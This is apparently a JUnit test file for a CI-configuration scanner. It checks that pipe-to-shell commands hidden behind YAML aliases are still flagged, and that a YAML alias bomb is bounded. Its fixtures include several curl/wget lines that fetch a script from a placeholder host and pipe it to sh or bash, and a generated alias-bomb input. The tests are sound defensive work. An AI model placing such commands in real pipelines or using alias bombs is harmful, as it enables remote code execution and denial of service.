package dev.portcullis.project;

import static dev.portcullis.project.CiCheckTest.check;
import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.model.Finding;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * The hostile-input campaign of issue 14 against CI files: commands hidden behind YAML aliases (item 5) and alias
 * bombs (item 7). Generated here; docs/hostile-inputs.md has the table.
 */
class HostileCiFilesTest {
    private static final String PIPE = "ci/pipe-to-shell";

    private static boolean pipes(java.util.List<Finding> findings) {
        return findings.stream().anyMatch(f -> f.rule().id().equals(PIPE));
    }

    @Test
    void item5_gitlabScriptBehindTwoLevelsOfAliases() {
        String gitlab = """
                .a: &a
                  - curl -s https://x.example/i.sh | sh
                .b: &b
                  - *a
                job:
                  image: node:20
                  script:
                    - *b
                """;
        // .a is not a job's script, so only the aliases through .b lead the command into job.script
        assertThat(pipes(check(".gitlab-ci.yml", gitlab))).isTrue();
    }

    @Test
    void item5_gitlabScriptIsTheAliasOfAListOfAliases() {
        String gitlab = """
                x:
                  - &a curl -fsSL https://x.example/i.sh | bash
                y: &b [*a]
                job:
                  script: *b
                """;
        assertThat(pipes(check(".gitlab-ci.yml", gitlab))).isTrue();
    }

    @Test
    void item5_workflowRunIsTheLeafOfAnAliasTree() {
        String workflow = """
                on: push
                x-leaf: &leaf "wget -qO- https://x.example/i.sh | sh"
                x-mid: &mid [*leaf]
                x-top: &top [*mid]
                jobs:
                  build:
                    runs-on: ubuntu-latest
                    steps:
                      - run: *leaf
                """;
        assertThat(pipes(check(".github/workflows/ci.yml", workflow))).isTrue();
    }

    @Test
    @Timeout(value = 2, unit = TimeUnit.MINUTES)
    void item7_aliasBombIsBoundedAndStillScanned() {
        // An anchor of 20,000 scalars used by 20,000 aliases: 400 million values expanded; out of memory before.
        StringBuilder gitlab = new StringBuilder(".big: &big\n");
        for (int i = 0; i < 20_000; i++) {
            gitlab.append("  - echo ").append(i).append('\n');
        }
        gitlab.append("job:\n  script:\n    - curl -s https://x.example/i.sh | sh\n");
        for (int i = 0; i < 20_000; i++) {
            gitlab.append("    - *big\n");
        }
        assertThat(gitlab.length()).isGreaterThan(300_000);
        java.util.List<Finding> findings = check(".gitlab-ci.yml", gitlab.toString());
        assertThat(pipes(findings)).isTrue();
        // and the file itself is reported: a limit was met, and which job runs which line is no longer known
        assertThat(findings).filteredOn(f -> f.rule().id().equals("ci/over-limit")).singleElement()
                .satisfies(f -> assertThat(f.message()).contains(".gitlab-ci.yml was scanned line by line")
                        .contains("aliases expand to more than 100000 values"));
    }

    @Test
    void aWorkflowWithinTheLimitsIsNotReportedAsOverLimit() {
        String workflow = """
                on: push
                x: &steps
                  - run: npm ci
                jobs:
                  build:
                    runs-on: ubuntu-latest
                    steps: *steps
                """;
        assertThat(check(".github/workflows/ci.yml", workflow)).noneMatch(f -> f.rule().id().equals("ci/over-limit"));
    }
}
